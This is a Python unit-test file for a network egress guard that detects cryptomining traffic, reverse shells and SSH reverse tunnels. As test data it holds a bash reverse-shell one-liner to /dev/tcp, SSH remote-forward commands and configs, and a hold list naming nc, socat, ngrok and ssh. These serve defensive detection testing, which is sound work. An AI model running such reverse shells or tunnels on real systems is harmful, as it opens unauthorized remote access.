# SPDX-License-Identifier: Apache-2.0
"""guard/detect/detector.py: what the kernel is told to hold, and findings -> actions."""
from __future__ import annotations

import ipaddress
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from guard.kernel import abi
from guard.kernel.abi import Action, AnchorKind, DetectFlags, ExecHold, SampleKind
from guard.detect.classify import Finding
from guard.detect.detector import Detector, decide, strongest
from guard.detect.vocabulary import anchor_table, exec_holds, has_anchor, kernel_detection, prefilter_holds
from guard.detect.files import ProcessFiles
from guard.policy.load import default_policy, parse_policy
from tests.unit.classify_checks import payload_record

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = sorted((ROOT / "tests/fixtures/payloads").glob("*.bin"))


def policy(detections: str = "", ssh: str = ""):
    return parse_policy("apiVersion: egress-guard/v1\nkind: EgressPolicy\nmetadata:\n"
                        "  name: t\nspec:\n" + detections + ssh)


def detections(**keys: str) -> str:
    return "  detections:\n" + "".join(f"    {k}: {v}\n" for k, v in keys.items())


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p.name for p in PAYLOADS])
def test_every_mining_dialect_is_held_by_the_kernel_prefilter(payload):
    assert prefilter_holds(payload.read_bytes())


@pytest.mark.parametrize("sample", [
    b"GET / HTTP/1.1\r\nHost: www.example.org\r\n\r\n",
    b'POST /mcp HTTP/1.1\r\nHost: t\r\nContent-Length: 60\r\n\r\n'
    b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}',
    b'{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"search"}}\n',
    b'Content-Length: 52\r\n\r\n{"jsonrpc":"2.0","id":1,"method":"initialize"}',
    b'POST / HTTP/1.1\r\nHost: node\r\n\r\n{"jsonrpc":"2.0","method":"eth_blockNumber"}',
    b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32),
    b"\x00\x00\x00\x08\x04\xd2\x16\x2f",                      # PostgreSQL SSLRequest
    b"\x00\x00\x00\x4d\x00\x03\x00\x00user\x00postgres\x00",  # PostgreSQL startup
])
def test_benign_first_payloads_are_not_held(sample):
    assert not prefilter_holds(sample)


def test_anchor_table_is_little_endian_windows_with_kinds():
    table = anchor_table()
    assert table[int.from_bytes(b"mini", "little")] == AnchorKind.PAYLOAD
    assert table[int.from_bytes(b"/tcp", "little")] == AnchorKind.ARGV
    assert table[int.from_bytes(b"\0\0$'", "little")] == AnchorKind.ARGV_PAIR
    assert all(0 < kinds <= int(AnchorKind.PAYLOAD | AnchorKind.ARGV | AnchorKind.ARGV_PAIR)
               for kinds in table.values())
    assert has_anchor(b"bash -i >& /dev/tcp/198.18.0.1/4444 0>&1", AnchorKind.ARGV)
    assert not has_anchor(b"bash -c ls -la /tmp", AnchorKind.ARGV)


def test_the_default_policy_enforces_and_tells_the_kernel_what_to_hold():
    default = default_policy()
    flags, stdio = kernel_detection(default)
    assert flags == DetectFlags.PAYLOAD | DetectFlags.HOLD | DetectFlags.DNS | \
        DetectFlags.STDIO_SOCKET | DetectFlags.HOLD_TUNNEL     # tunnelTool: block
    assert stdio == Action.KILL
    holds = exec_holds(default)
    assert holds["ssh"] == holds["autossh"] == holds["ngrok"] == ExecHold.ALWAYS
    assert holds["nc"] == holds["socat"] == ExecHold.ALWAYS
    assert holds["bash"] == holds["python3"] == ExecHold.IF_ANCHOR
    assert "curl" not in holds and "git" not in holds


def test_log_only_detections_hold_nothing():
    logged = policy(detections(stratum="log", sshReverseTunnel="log", tunnelTool="log",
                               reverseShell="log"))
    flags, stdio = kernel_detection(logged)
    assert not flags & DetectFlags.HOLD and flags & DetectFlags.PAYLOAD
    assert stdio == Action.LOG
    assert exec_holds(logged) == {}


def test_everything_off_samples_nothing():
    off = policy(detections(stratum="off", minerExec="off", sshReverseTunnel="off",
                            tunnelTool="off", reverseShell="off", sshOutbound="off"))
    assert kernel_detection(off) == (0, Action.LOG)
    assert off.action_for("stratum") == "off"


def test_a_policy_without_detections_logs_them():
    plain = policy()
    assert plain.detection("stratum") == "log" and plain.action_for("reverse_shell") == "log"


def test_low_confidence_findings_are_only_logged():
    blocking = policy(detections(sshOutbound="block", stratum="kill"))
    decided = decide([Finding("ssh_outbound", "low"), Finding("ssh_outbound", "medium"),
                      Finding("stratum", "high", "stratum-v1")], blocking)
    assert [d.action for d in decided] == ["log", "block", "kill"]
    assert strongest(decided) == "kill" and strongest([]) is None


def test_off_drops_the_finding():
    assert decide([Finding("tunnel_tool", "high")], policy(detections(tunnelTool="off"))) == []


def test_ssh_allow_is_parsed_for_the_classifier():
    allowing = policy(ssh="  ssh:\n    allow:\n      - host: git.test\n        ports: [22]\n"
                          "        forwards: [local]\n      - cidr: 198.18.0.0/15\n")
    assert [dict(e) for e in allowing.ssh_allow] == [
        {"host": "git.test", "ports": [22], "forwards": ["local"]},
        {"cidr": "198.18.0.0/15"}]
    findings = Detector().exec_findings(allowing, ["ssh", "-L", "8080:localhost:80", "git.test"],
                                        "/usr/bin/ssh", None)
    assert [(f.type, f.confidence) for f in findings] == [("ssh_outbound", "low")]


def test_a_banner_from_a_renamed_ssh_with_a_remote_forward_is_caught():
    findings = Detector().payload_findings(
        default_policy(), payload_record(b"SSH-2.0-OpenSSH_9.2p1\r\n", SampleKind.FIRST, 443),
        argv=["backup", "-N", "-R", "8080:localhost:22", "user@198.18.0.1"])
    assert {f.type for f in findings} == {"ssh_outbound", "ssh_reverse_tunnel"}


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(sample=st.binary(max_size=abi.SAMPLE_MAX), kind=st.sampled_from(list(SampleKind)),
       port=st.integers(0, 65535))
def test_payload_classification_never_raises(sample, kind, port):
    findings = Detector().payload_findings(default_policy(),
                                           payload_record(sample, kind, port))
    assert all(isinstance(f, Finding) for f in findings)
    assert prefilter_holds(sample) in (True, False)


@pytest.fixture
def chrooted(tmp_path):
    """A child process whose root is tmp_path/root (fork + chroot, no exec)."""
    if os.geteuid() != 0:
        pytest.skip("chroot needs root")
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    (root / "home/agent/.ssh").mkdir(parents=True)
    (root / "home/agent/.ssh/config").write_text("Host *\n  RemoteForward 9000 localhost:22\n")
    (root / "link").symlink_to("/home/agent/.ssh/config")   # absolute: means the root's
    (root / "up").symlink_to("../../../../../../etc/hostname")
    ready_r, ready_w = os.pipe()   # child -> parent: chrooted
    done_r, done_w = os.pipe()     # parent -> child: exit now
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.chroot(root)
            os.chdir("/home/agent")
            os.write(ready_w, b"x")
            os.read(done_r, 1)
        finally:
            os._exit(0)
    try:
        assert os.read(ready_r, 1) == b"x"
        yield pid, root
    finally:
        os.write(done_w, b"x")
        os.waitpid(pid, 0)
        for fd in (ready_r, ready_w, done_r, done_w):
            os.close(fd)


def test_process_files_resolve_inside_the_process_root(chrooted):
    pid, root = chrooted
    files = ProcessFiles(pid)
    assert files.cwd == "/home/agent"
    assert files.home == "/root" and files.user == "root"
    config = (root / "home/agent/.ssh/config").read_bytes()
    assert files.read_file(".ssh/config") == config            # relative to its cwd
    assert files.read_file("/link") == config                  # absolute link, its root
    assert files.read_file("/up") is None                      # no way out of the root
    assert files.read_file("/home") is None                    # a directory is not a file
    assert files.list_dir("/home/agent/.ssh") == ["config"]


def test_a_failed_action_is_reported_not_raised():
    from guard.respond.responder import Responder
    from guard.kernel.libbpf import LibbpfError

    class FullMaps:
        def flow_verdicts(self, cookies, action):
            raise LibbpfError(28, "bpf_map_update_batch")
    responder = Responder(FullMaps(), objects=None)
    responder.allow_flow(7)
    assert responder.flush_allowed() is False
    assert responder.take_errors() == [
        "flush_allowed(): [Errno 28] bpf_map_update_batch: No space left on device"]
    assert responder.take_errors() == []


def test_allows_are_written_in_one_batch_and_never_undo_a_block():
    from guard.kernel import abi
    from guard.respond.responder import Responder

    class RecordingMaps:
        def __init__(self):
            self.writes = []

        def flow_verdicts(self, cookies, action):
            self.writes.append((list(cookies), action))

        def flow_verdict(self, cookie, action):
            self.writes.append(([cookie], action))

    class NoReset:
        can_reset_sockets = False
    maps = RecordingMaps()
    responder = Responder(maps, objects=NoReset())
    for cookie in (1, 2, 3, 2):
        responder.allow_flow(cookie)
    responder.block_flow(3, 4242, abi.Proto.TCP)      # judged again later in the same batch
    responder.flush_allowed()
    responder.flush_allowed()                          # nothing left: no write
    assert maps.writes == [([3], abi.Action.BLOCK), ([1, 2], abi.Action.ALLOW)]


def test_a_pool_reply_reveals_an_unknown_json_dialect_but_not_a_benign_one():
    detector = Detector()
    first = b'{"id":1,"jsonrpc":"2.0","method":"getjob","params":{}}\n'
    revealed = detector.inbound_findings(default_policy(), first, 9000,
                                         b'{"id":null,"method":"mining.notify","params":[]}\n')
    assert [(f.dialect, f.confidence) for f in revealed] == [("stratum-reply", "medium")]
    assert detector.inbound_findings(default_policy(), first, 9000,
                                     b'{"jsonrpc":"2.0","id":1,"result":{"tools":[]}}\n') == []
    assert detector.inbound_findings(policy(detections(stratum="off")), first, 9000,
                                     b'{"method":"mining.notify"}') == []
